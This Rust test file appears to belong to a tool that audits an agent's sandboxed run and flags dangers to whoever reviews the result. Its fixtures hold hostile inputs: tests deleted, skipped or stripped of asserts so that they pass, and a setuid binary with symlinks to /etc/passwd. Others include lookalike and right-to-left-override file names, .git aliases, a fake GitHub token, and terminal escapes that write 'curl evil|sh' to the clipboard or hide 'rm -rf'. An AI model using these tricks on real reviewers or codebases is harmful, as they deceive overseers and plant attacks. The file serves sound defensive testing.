//! Attacks on whoever reads or takes what came out of a run.

use std::fs;

use anyhow::{Context as _, Result, ensure};

use super::{flags, has, lacks, paths};
use crate::support::{LOOK_SECONDS, Terminal, expect, in_each_mode, patch};

/// clm-003: tests, snapshots and what runs them are edited so that they pass.
#[test]
fn r27_weakened_tests_are_told() -> Result<()> {
    in_each_mode("weakened", |env, fixture| {
        fs::create_dir(fixture.folder.join("tests"))?;
        for (name, content) in [
            ("tests/test_a.py", "def test_a():\n    assert 1 + 1 == 3\n"),
            (
                "tests/test_b.py",
                "def test_b():\n    assert True is True\n",
            ),
            ("tests/test_c.py", "def test_c():\n    pass\n"),
        ] {
            env.put(fixture, name, content)?;
        }
        env.git(fixture, &fixture.folder, &["add", "-A"])?;
        env.git(fixture, &fixture.folder, &["commit", "-qm", "tests"])?;
        let work = "sed -i 's/assert/#assert/' tests/test_a.py; rm tests/test_b.py; \
            sed -i '1i import pytest\\n@pytest.mark.skip' tests/test_c.py; \
            mkdir -p .github/workflows; echo '  - run: make test || true' > .github/workflows/ci.yml";
        let result = env.run_with(fixture, &[], work)?;
        for flag in [
            "serious tests_deleted",
            "serious tests_skipped",
            "warning assertions_removed",
            "warning tests_changed",
            "warning checks_weakened",
            "warning runs_on_review",
        ] {
            has(&result, flag)?;
        }
        let page = env.look(fixture, &["show"])?;
        let at = |word: &str| page.find(word).context(word.to_owned());
        ensure!(
            at("**serious** `tests_deleted`")? < at("**warning** `tests_changed`")?,
            "not the worst first: {page}"
        );
        Ok(())
    })
}

/// A write of which cannot be told where it went may have gone anywhere.
#[test]
fn a_write_without_a_place_is_serious() -> Result<()> {
    in_each_mode("unplaced", |env, fixture| {
        let missing = "m/".repeat(20);
        let work = format!("echo x > a.txt; echo x > {missing}x; true");
        let result = env.run_with(fixture, &[], &work)?;
        has(&result, "serious evidence_incomplete")?;
        expect(&result["evidence"], "complete", false)?;
        expect(&result["evidence"], "unplaced_count", 1)?;
        let told = env.look(fixture, &["audit", "--writes"])?;
        ensure!(told.contains("unplaced"), "{told}");
        let result = env.run_with(fixture, &[], "echo y > a.txt; echo x > m/m/x; true")?;
        lacks(&result, "evidence_incomplete")
    })
}

/// patch-020: everything that runs on the reviewer's side.
#[test]
fn files_that_run_on_the_reviewers_side_are_listed() -> Result<()> {
    in_each_mode("runs", |env, fixture| {
        let package = "{\"name\": \"x\", \"version\": \"1\", \"scripts\": {\"test\": \"true\"}}\n";
        env.put(fixture, "package.json", package)?;
        env.git(fixture, &fixture.folder, &["add", "-A"])?;
        env.git(fixture, &fixture.folder, &["commit", "-qm", "package"])?;
        let names = [
            ".vscode/tasks.json",
            ".envrc",
            "Makefile",
            ".cargo/config.toml",
            "build.rs",
            "conftest.py",
            ".husky/pre-commit",
            ".github/workflows/x.yml",
            ".devcontainer/devcontainer.json",
            ".pre-commit-config.yaml",
            ".npmrc",
            ".yarnrc.yml",
            "rust-toolchain.toml",
            ".claude/settings.json",
            ".codex/config.toml",
            ".cursor/rules",
            "AGENTS.md",
            ".mcp.json",
            ".gitattributes",
        ];
        let make: Vec<String> = names
            .iter()
            .map(|name| format!("mkdir -p \"$(dirname {name})\"; echo x > {name}"))
            .collect();
        let version = "sed -i 's/\"1\"/\"2\"/' package.json";
        let result = env.run_with(fixture, &[], &format!("{}; {version}", make.join("; ")))?;
        let listed = paths(&result, "runs_on_review");
        for name in names {
            ensure!(listed.iter().any(|path| path == name), "{name}: {listed:?}");
        }
        ensure!(listed.len() == names.len(), "{listed:?}");
        ensure!(
            env.look(fixture, &["show"])?
                .contains("## Will run on your machine")
        );
        // Of a manifest only what runs counts.
        let result = env.run_with(fixture, &[], "sed -i 's/true/curl x/' package.json")?;
        ensure!(paths(&result, "runs_on_review") == ["package.json"]);
        Ok(())
    })
}

/// patch-003, patch-013, patch-014, out-013: names.
#[test]
fn names_that_mean_another_file_elsewhere_are_told() -> Result<()> {
    in_each_mode("names", |env, fixture| {
        let make = "touch readme.md CON aux.txt a:b 'trailing.' 'space ' '..\\..\\x' \
            \"$(printf 'caf\\303\\251')\" \"$(printf 'cafe\\314\\201')\" \
            \"$(printf 'safe\\342\\200\\256gpj.sh')\" \"$(printf 'RE\\320\\220DME.md')\"";
        let result = env.run_with(fixture, &[], make)?;
        expect(&result, "status", "done")?;
        let colliding = paths(&result, "colliding_name");
        ensure!(
            colliding.len() == 2 && colliding.contains(&"readme.md".to_owned()),
            "{colliding:?}"
        );
        ensure!(paths(&result, "odd_name").len() == 6, "{}", result["flags"]);
        let confusable = paths(&result, "confusable_name");
        ensure!(
            confusable.iter().any(|path| path.contains("gpj")),
            "{confusable:?}"
        );
        ensure!(
            confusable.iter().any(|path| path.ends_with("DME.md")),
            "{confusable:?}"
        );
        let page = env.look(fixture, &["show"])?;
        ensure!(
            page.contains("\\u{202e}") && !page.contains('\u{202e}'),
            "{page}"
        );
        // A file that only changes its case is no collision.
        let result = env.run_with(
            fixture,
            &[],
            "mv README.md readme.md; rm -rf src; mkdir SRC; touch SRC/x",
        )?;
        lacks(&result, "colliding_name")?;
        // What any machine takes for the directory of git stays behind.
        let git = "for d in .GIT git~1 '.git ' .git. '.git::$INDEX_ALLOCATION' sub/.git \
            \"$(printf '.g\\342\\200\\214it')\"; do mkdir -p \"$d\" && echo x > \"$d/hook\"; done";
        let result = env.run_with(fixture, &[], git)?;
        ensure!(
            result["changed_files"] == serde_json::json!([]),
            "{}",
            result["changed_files"]
        );
        let stayed = result["omitted"].as_array().map_or(0, Vec::len);
        ensure!(stayed == 7, "{}", result["omitted"]);
        Ok(())
    })
}

/// patch-011, patch-015, patch-016: modes, binaries, links, and hunks that fit one base only.
#[test]
fn the_shape_of_a_patch_is_told() -> Result<()> {
    in_each_mode("shape", |env, fixture| {
        let make = "cp /bin/true tool; chmod 4755 tool; chmod +x a.txt; ln -s ../../etc/passwd up; \
            ln -s /etc/passwd abs; ln -s a.txt fine; truncate -s 10G bomb; echo more >> README.md";
        let options = ["--file-size", "none", "--disk", "none"];
        let result = env.run_with(fixture, &options, make)?;
        for flag in [
            "warning binary_changed",
            "warning made_executable",
            "info made_executable",
            "serious link_leaves_tree",
        ] {
            has(&result, flag)?;
        }
        let mut links = paths(&result, "link_leaves_tree");
        links.sort();
        ensure!(links == ["abs", "up"], "{links:?}");
        let text = String::from_utf8_lossy(&patch(&result)?).into_owned();
        ensure!(!text.contains("104755"), "a setuid bit is in the patch");
        let whole = |id: &str| id.len() == 40 && id.bytes().all(|b| b.is_ascii_hexdigit());
        for line in text.lines().filter_map(|line| line.strip_prefix("index ")) {
            let ids = line.split(' ').next().and_then(|ids| ids.split_once(".."));
            let (old, new) = ids.context("an index line without two ids")?;
            ensure!(whole(old) && whole(new), "not whole: {line}");
        }
        ensure!(
            result["omitted"].to_string().contains("bomb"),
            "{}",
            result["omitted"]
        );
        Ok(())
    })
}

/// Secrets and canaries are found, and never repeated.
#[test]
fn secrets_in_a_patch_are_told_and_not_repeated() -> Result<()> {
    in_each_mode("secrets", |env, fixture| {
        let value = format!("gh{}q7Wm2ZtR9bXc4VnK6dLs8GhJ3fPy5TaQ1eUo", "p_");
        env.run_with(fixture, &[], "true")?;
        let canary = fs::read_to_string(fixture.state.join("canary"))?;
        let work = format!(
            "echo 'token = \"{value}\"' > conf.py; echo '{}' > c.txt; \
             printf 'x = 1 # \\342\\200\\256\\n' > trojan.py",
            canary.trim_end()
        );
        let result = env.run_with(fixture, &[], &work)?;
        has(&result, "serious secret_added")?;
        has(&result, "serious canary_added")?;
        has(&result, "serious hidden_text")?;
        ensure!(paths(&result, "secret_added") == ["conf.py"]);
        ensure!(
            !result["flags"].to_string().contains(&value[8..]),
            "{}",
            result["flags"]
        );
        let page = env.look(fixture, &["show"])?;
        let flags = page.split("## Flags").nth(1).context("no flags")?;
        ensure!(!flags.contains(&value[8..]), "{flags}");
        Ok(())
    })
}

/// R27: programs that were never seen here before, from the second run on.
#[test]
fn r27_new_programs_are_told() -> Result<()> {
    in_each_mode("programs", |env, fixture| {
        let result = env.run_with(fixture, &[], "ls >/dev/null; cat a.txt")?;
        let first: Vec<String> = flags(&result);
        ensure!(first == ["info new_program"], "{first:?}");
        let result = env.run_with(fixture, &[], "ls >/dev/null; cat a.txt")?;
        lacks(&result, "new_program")?;
        let result = env.run_with(fixture, &[], "ls >/dev/null; base64 a.txt; wc -l a.txt")?;
        has(&result, "warning new_program")?;
        has(&result, "info new_program")?;
        let result = env.run_with(fixture, &[], "cp /bin/true /tmp/t; /tmp/t")?;
        has(&result, "warning own_program")?;
        // Three failures of one command; grep only answers.
        let again = "for i in 1 2 3; do ls /nowhere; grep -q nothing a.txt; done 2>/dev/null; \
            for i in 1 2 3; do cat /nowhere; done 2>/dev/null; true";
        let result = env.run_with(fixture, &[], again)?;
        has(&result, "warning repeated_failure")?;
        let told = result["flags"][0]["evidence"].to_string();
        ensure!(
            told.contains("/nowhere") && !told.contains("nothing"),
            "{told}"
        );
        ensure!(
            result["observed"]["failed"].as_u64() >= Some(9),
            "{}",
            result["observed"]
        );
        Ok(())
    })
}

/// out-001, out-004, out-005, out-006, out-010, out-012: nothing that is printed later moves a
/// cursor, writes a clipboard or forges a line.
#[test]
fn what_is_shown_later_is_harmless() -> Result<()> {
    in_each_mode("shown", |env, fixture| {
        for (shell, seen) in [
            ("printf '\\033]52;c;Y3VybCBldmlsfHNo\\007'", "\\u{1b}]52;c;"),
            (
                "printf 'FAILED\\033[1A\\033[2KALL TESTS PASSED\\n'",
                "FAILED",
            ),
            (
                "printf 'rm -rf secret\\rls            \\n'",
                "rm -rf secret\\u{d}ls",
            ),
            (
                "printf '\\033P$q\\\"p\\033\\\\\\033[c\\033[6n\\033[5n'",
                "\\u{1b}",
            ),
            ("head -c 10485760 /dev/zero | tr '\\0' '\\377'", "\u{fffd}"),
        ] {
            let result = env.run_with(fixture, &[], shell)?;
            expect(&result, "status", "done")?;
            // On a terminal: what it prints in a pipe is exact, and the caller's own to show.
            let logs = env.ringfence_at(fixture, LOOK_SECONDS, Terminal::Own, &["logs"])?;
            let logs = logs.stdout.replace("\r\n", "\n");
            ensure!(logs.contains(seen), "`{shell}`: {}", start(&logs));
            harmless(&logs).with_context(|| format!("logs of `{shell}`"))?;
            for words in [&["show"][..], &["show", "--json"], &["list"], &["diff"]] {
                harmless(&env.look(fixture, words)?).with_context(|| format!("{words:?}"))?;
            }
        }
        let argv = "python3 -c \"import os;os.execv('/bin/true',['\\033[2J\\033[H','\\n{}'])\"";
        let result = env.run_with(fixture, &[], argv)?;
        let bundle = std::path::Path::new(result["bundle"].as_str().unwrap_or_default());
        let journal = fs::read_to_string(bundle.join("audit.jsonl"))?;
        ensure!(
            journal
                .lines()
                .all(|line| line.starts_with("{\"sequence\":")),
            "{journal}"
        );
        ensure!(
            journal.contains("\\\\033[2J"),
            "the argument is not there: {journal}"
        );
        harmless(&env.look(fixture, &["show"])?)
    })
}

fn harmless(text: &str) -> Result<()> {
    ensure!(
        !text.contains(['\u{1b}', '\r', '\u{7}']),
        "{}",
        start(text).escape_debug()
    );
    Ok(())
}

fn start(text: &str) -> &str {
    &text[..text.floor_char_boundary(300)]
}
